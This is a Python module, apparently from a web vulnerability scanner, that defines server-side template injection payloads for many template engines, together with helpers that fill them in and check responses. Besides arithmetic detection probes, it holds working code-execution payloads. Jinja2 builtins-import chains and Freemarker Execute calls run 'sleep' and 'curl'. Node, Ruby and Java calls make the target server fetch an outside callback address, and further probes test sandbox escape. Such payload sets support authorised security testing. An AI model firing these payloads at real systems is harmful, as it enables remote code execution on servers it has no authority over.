"""Payloads of `ssti`: sums in the syntax of each family of template engines, each behind letters of its own.

`{mark}` stands for fresh letters, `{left}` and `{right}` for random numbers, `{value}` for the baseline's value. What the
engine computes stands right behind the letters; the product is nowhere in the request.
"""

import base64
import re
from typing import NamedTuple


class Sum(NamedTuple):
    """One way to write a sum. engines: which compute it. tame: the same as plain text to every engine."""

    engines: str
    pattern: str
    tame: str


CURLY = Sum("Jinja2, Twig, Nunjucks, Tornado, Pebble", "{{{{{left}*{right}}}}}", "{{ {{{left}*{right}}} }}")
DOLLAR = Sum("Freemarker, Mako, Thymeleaf, JSP EL, Groovy", "${{{left}*{right}}}", "$ {{{left}*{right}}}")
PERCENT = Sum("ERB, EJS, Mojolicious", "<%= {left}*{right} %>", "< %= {left}*{right} %>")
HASH = Sum("Pug, Slim, Haml, JSP EL", "#{{{left}*{right}}}", "# {{{left}*{right}}}")
SINGLE = Sum("Smarty, Latte", "{{{left}*{right}}}", "{{ {left}*{right} }}")
STAR = Sum("Thymeleaf, Spring EL", "*{{{left}*{right}}}", "* {{{left}*{right}}}")
RAZOR = Sum("Razor", "@({left}*{right})", "@ ({left}*{right})")
INLINED = Sum("Thymeleaf", "[[${{{left}*{right}}}]]", "[[ {left}*{right} ]]")
VELOCITY = Sum("Velocity", "#set($a={left}*{right})${{a}}", "# set($a={left}*{right})$ {{a}}")
LIQUID = Sum("Liquid", "{{{{{left}|times:{right}}}}}", "{{ {{{left}|times:{right}}} }}")
# Django's language has no arithmetic of its own; widthratio is the one tag that multiplies.
DJANGO = Sum("Django", "{{% widthratio {left} 1 {right} %}}", "{{ % widthratio {left} 1 {right} % }}")
BRACKETS = Sum("Template Toolkit", "[% {left}*{right} %]", "[ % {left}*{right} % ]")
# It has no arithmetic: a number is printed in hexadecimal. Its raw texts have signs that no encoder of markup changes.
GO = Sum("Go", "{{{{printf `%x` {product}}}}}", "{{ {{printf `%x` {product}}} }}")
# What the template was given, with the names of its fields.
ALL_OF_GO = "{{printf `%+v` $}}"
# Where curly brackets are taken out in pairs, and in doT, whose own sign is the equals sign: to Mustache it changes the brackets.
PRINT = Sum("Jinja2", "{{%print({left}*{right})%}}", "{{ %print({left}*{right})% }}")
DOT = Sum("doT", "{{{{={left}*{right}}}}}", "{{ {{={left}*{right}}} }}")
# Handlebars and Mustache compute nothing: a section of a name that nobody gave is left out, and its opposite is kept.
SECTION = Sum(
    "Handlebars, Mustache, Hogan",
    "{{{{^zq}}}}{left}{{{{/zq}}}}{{{{#zq}}}}0{{{{/zq}}}}{right}",
    "{{ {{^zq}} }}{left}{{ {{/zq}} }}{{ {{#zq}} }}0{{ {{/zq}} }}{right}",
)
# No engine of templates: a server that reads pages for directives (Apache, nginx, lighttpd).
INCLUDES = Sum(
    "server-side includes",
    '{left}<!--#set var="zq" value="{right}" --><!--#echo var="zq" -->',
    '{left}< !--#set var="zq" value="{right}" -->< !--#echo var="zq" -->',
)
# No engine of templates either: texts whose `${…}` are looked up, environment and files among what it reads. It has no
# arithmetic; what it encodes has six digits, so that nothing is filled up.
LOOKUP = Sum("Apache Commons Text", "${{base64Encoder:{left}0}}", "$ {{base64Encoder:{left}0}}")

# Two families that do not spoil each other, asked in one request: for most points these two requests are all.
SCREENS = ((CURLY, DOLLAR), (PERCENT, HASH))
# All others in one request, where the letters of the screens are shown: an engine computes one, or breaks over another.
OTHERS = (SINGLE, STAR, RAZOR, INLINED, VELOCITY, LIQUID, DJANGO, BRACKETS, GO, SECTION, INCLUDES, LOOKUP)
# Asked alone, where a screen broke the page.
ALONE = (
    CURLY,
    DOLLAR,
    PERCENT,
    HASH,
    SECTION,
    SINGLE,
    DJANGO,
    LIQUID,
    GO,
    DOT,
    PRINT,
    STAR,
    RAZOR,
    INLINED,
    VELOCITY,
    BRACKETS,
    INCLUDES,
    LOOKUP,
)

OF_RUBY = (PERCENT, HASH)


# Where nothing is shown: a division by zero breaks what computes it. In JavaScript it is a number like any other.
DIVIDING = (CURLY, DOLLAR, PERCENT, HASH)


class Place(NamedTuple):
    """Where in a template the value may stand. before: leaves an expression that was begun."""

    name: str
    before: str = ""


TEXT = Place("text of a template")
# A shell would make a file of the word behind `>`: it finds no such folder.
_OUT_OF_PERCENT = "%>-/"
# Inside of an expression that somebody began: {{ user.VALUE }}, ${ … }, <%= … %>.
WITHIN = {
    CURLY: Place("within an expression", "}}"),
    DOLLAR: Place("within an expression", "}"),
    PERCENT: Place("within an expression", _OUT_OF_PERCENT),
}


# Left by the end of a comment, in which nothing breaks and nothing is shown.
COMMENTED = {CURLY: Place("within a comment", "#}"), PERCENT: Place("within a comment", _OUT_OF_PERCENT)}

_RUBY = "<%=sleep({seconds})%>"
_JINJA = "{{{{cycler.__init__.__globals__.__builtins__.__import__('time').sleep({seconds})}}}}"
_FREEMARKER = '${{"freemarker.template.utility.Execute"?new()("sleep {seconds}")}}'
_NODE = "Atomics.wait(new Int32Array(new SharedArrayBuffer(4)),0,0,{seconds}*1e3)"
# Calls that wait, of engines that take each other's for plain text; whichever it is, it waits once.
WAITING = (
    f"{_RUBY}{_JINJA}{_FREEMARKER}",
    f"<%={_NODE}%>{{{{{{{{range.constructor('return {_NODE}')()}}}}}}}}${{{{T(java.lang.Thread).sleep({{seconds}}*1000)}}}}",
    "{{{{[{seconds}]|map('sleep')|join}}}}${{__import__('time').sleep({seconds})}}",
    "{{{{__import__('time').sleep({seconds})}}}}",
)

_PYTHON = "__import__('urllib.request').request.urlopen('{url}/%d'%({left}*{right}))"
_HTTP = "process.mainModule.require('http').get('{url}/'+{left}*{right})"
# The same engines in calls that ask for an address, whose last part the engine has to compute.
CALLING = (
    (
        "<%=[require('open-uri'),URI.open('{url}/'+({left}*{right}).to_s)]%>"
        f"{{{{{{{{cycler.__init__.__globals__.__builtins__.{_PYTHON}}}}}}}}}"
        '${{"freemarker.template.utility.Execute"?new()("curl {url}/"+({left}*{right})?c)}}'
    ),
    (
        f'<%={_HTTP}%>{{{{{{{{range.constructor("return {_HTTP}")()}}}}}}}}'
        "${{new java.net.URL('{url}/'+{left}*{right}).openStream()}}"
    ),
    f"{{{{{{{{['{{url}}/'~({{left}}*{{right}})]|map('file_get_contents')|join}}}}}}}}${{{{{_PYTHON}}}}}",
    f"{{{{{{{{{_PYTHON}}}}}}}}}",
)

# Engines that may be held to what they are given, and what shows that one is not: behind its letters stands a type's
# name, or a number that a function of the language wrote in hexadecimal. Python's engines, JavaScript's, Nunjucks,
# Twig, PHP's own, Java's, and JavaScript's that know names alone.
MAY_BE_HELD = (CURLY, PRINT, LIQUID, GO, SECTION)
REACHING = (
    ("{{{{().__class__.__name__}}}}", "tuple"),
    ("{{{{[].constructor.name}}}}", "Array"),
    # It hands methods out in functions of its own, of which no name tells.
    ("{{{{range.constructor('return ({number}).toString(16)')()}}}}", "{number:x}"),
    ("{{{{[{number}]|map('dechex')|join}}}}", "{number:x}"),
    ("{{{{dechex({number})}}}}", "{number:x}"),
    ("{{{{''.getClass().getSimpleName()}}}}", "String"),
    # A block that makes the number what names are looked up in: languages of sections alone have none.
    ("{{{{#with {number}}}}}{{{{toFixed.constructor.name}}}}{{{{/with}}}}", "Function"),
)


class Task(NamedTuple):
    """Fresh numbers and letters for one sum."""

    mark: str
    left: int
    right: int

    @property
    def product(self) -> int:
        """What an engine makes of it."""
        return self.left * self.right


def fill(sum_: Sum, task: Task, before: str = "", *, tame: bool = False) -> str:
    """One sum behind its letters."""
    pattern = sum_.tame if tame else sum_.pattern
    return before + task.mark + pattern.format(left=task.left, right=task.right, product=task.product)


def fill_whole(task: Task, *, tame: bool = False) -> str:
    """A sum that is all of the value, for those who take what is written so for an expression of their language."""
    return (HASH.tame if tame else HASH.pattern).format(left=task.left, right=task.right)


def divide(sum_: Sum, task: Task, less: int, *, tame: bool = False, whole: bool = True) -> str:
    """A division by what is left of the second number, behind its letters. whole: else with a bracket that was never opened."""
    pattern = sum_.tame if tame else sum_.pattern
    divided = "{left}/({right}-{less})" if whole else "{left}/{right}-{less})"
    return task.mark + pattern.replace("{left}*{right}", divided).format(left=task.left, right=task.right, less=less)


def expected(sum_: Sum, task: Task) -> str:
    """What stands right behind the letters where it was computed."""
    if sum_ in (SECTION, INCLUDES):
        return f"{task.mark}{task.left}{task.right}"
    return task.mark + _result(sum_, task)


def _result(sum_: Sum, task: Task) -> str:
    """What is computed, in small letters. What Go is sent holds the product itself, so that a page which repeats it shows that."""
    if sum_ is LOOKUP:
        return base64.b64encode(f"{task.left}0".encode()).decode().lower()
    return f"{task.product:x}" if sum_ is GO else str(task.product)


def shows(sum_: Sum, task: Task, text: str, *, apart: bool = False) -> bool:
    """Whether a text shows it; Freemarker and others write large numbers as the locale groups them. apart: or away from the letters."""
    # Who writes names in capitals writes the letters so.
    wanted, text = expected(sum_, task), text.lower()
    if apart and _result(sum_, task) in text:
        return True
    if wanted in text or sum_ in (GO, SECTION, INCLUDES, LOOKUP):
        return wanted in text
    groups = r"[,.'\u2019\u00a0\u202f ]".join(f"{task.product:,}".split(","))
    return task.mark in text and re.search(re.escape(task.mark) + groups, text) is not None


def fill_wait(pattern: str, seconds: int, *, decoy: bool = False) -> str:
    """One of WAITING. decoy: of functions that only look like those."""
    written = pattern.format(seconds=seconds)
    return written.replace("sleep", "slepe").replace(".wait(", ".wiat(") if decoy else written
